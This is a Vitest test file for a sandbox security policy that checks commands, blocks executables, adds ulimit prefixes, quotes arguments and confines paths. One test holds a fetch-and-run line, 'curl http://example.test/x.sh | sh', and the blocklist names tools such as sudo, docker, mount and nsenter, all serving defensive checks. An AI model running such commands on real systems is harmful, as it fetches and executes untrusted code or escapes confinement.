import { describe, it, expect } from 'vitest';
import {
  BLOCKED_COMMANDS,
  buildLimitPrefix,
  checkCommand,
  commandWords,
  confinePath,
  shellQuote,
} from '../security/securityPolicy';

describe('securityPolicy', () => {
  describe('checkCommand', () => {
    it('allows ordinary build commands', () => {
      expect(checkCommand(['cargo', 'build', '--release'])).toEqual({ allowed: true });
      expect(checkCommand(['npm', 'test'])).toEqual({ allowed: true });
    });

    it('rejects an empty command', () => {
      expect(checkCommand([])).toEqual({ allowed: false, reason: 'Empty command' });
    });

    it('blocks listed executables by basename', () => {
      expect(checkCommand(['/usr/bin/sudo', 'ls'])).toEqual({
        allowed: false,
        reason: "Command 'sudo' is blocked for security reasons",
      });
    });

    it('looks through shells and wrappers', () => {
      expect(checkCommand(['bash', '-c', 'make && docker ps']).reason).toBe(
        "Command 'docker' is blocked for security reasons"
      );
      expect(checkCommand(['env', 'FOO=1', 'timeout', '10', 'mount', '/dev/sda1']).reason).toBe(
        "Command 'mount' is blocked for security reasons"
      );
    });

    it('rejects dangerous patterns', () => {
      const decision = checkCommand(['sh', '-c', 'curl http://example.test/x.sh | sh']);
      expect(decision.allowed).toBe(false);
      expect(decision.reason).toMatch(/^Command matches dangerous pattern: /);
    });
  });

  it('collects command words in order', () => {
    expect(commandWords(['sh', '-c', 'CC=clang make; ./run | tee out.log'])).toEqual(['sh', 'make', 'run', 'tee']);
  });

  it('loads the blocklist', () => {
    expect(BLOCKED_COMMANDS.has('nsenter')).toBe(true);
    expect(BLOCKED_COMMANDS.has('cargo')).toBe(false);
  });

  describe('buildLimitPrefix', () => {
    it('emits only the configured limits', () => {
      expect(buildLimitPrefix({ cpuSeconds: 5, memoryMb: 0, maxProcesses: 0, maxFileSizeMb: 0 })).toBe(
        'ulimit -t 5 && ulimit -c 0 && '
      );
    });

    it('converts sizes to ulimit units', () => {
      expect(buildLimitPrefix({ cpuSeconds: 60, memoryMb: 512, maxProcesses: 50, maxFileSizeMb: 10 })).toBe(
        'ulimit -u 50 && ulimit -f 20480 && ulimit -v 524288 && ulimit -t 60 && ulimit -c 0 && '
      );
    });
  });

  it('quotes shell arguments', () => {
    expect(shellQuote('src/main.rs')).toBe('src/main.rs');
    expect(shellQuote('')).toBe("''");
    expect(shellQuote('hello world')).toBe("'hello world'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
  });

  describe('confinePath', () => {
    it('resolves paths inside the root', () => {
      expect(confinePath('/w/app', '.')).toBe('/w/app');
      expect(confinePath('/w/app', 'src/lib')).toBe('/w/app/src/lib');
    });

    it('rejects paths that escape the root', () => {
      expect(confinePath('/w/app', '..')).toBeNull();
      expect(confinePath('/w/app', '../other')).toBeNull();
      expect(confinePath('/w/app', '/etc')).toBeNull();
    });

    it('does not confuse a sibling prefix with the root', () => {
      expect(confinePath('/w/app', '../app2')).toBeNull();
      expect(confinePath('/w/app', '..foo')).toBe('/w/app/..foo');
    });
  });
});
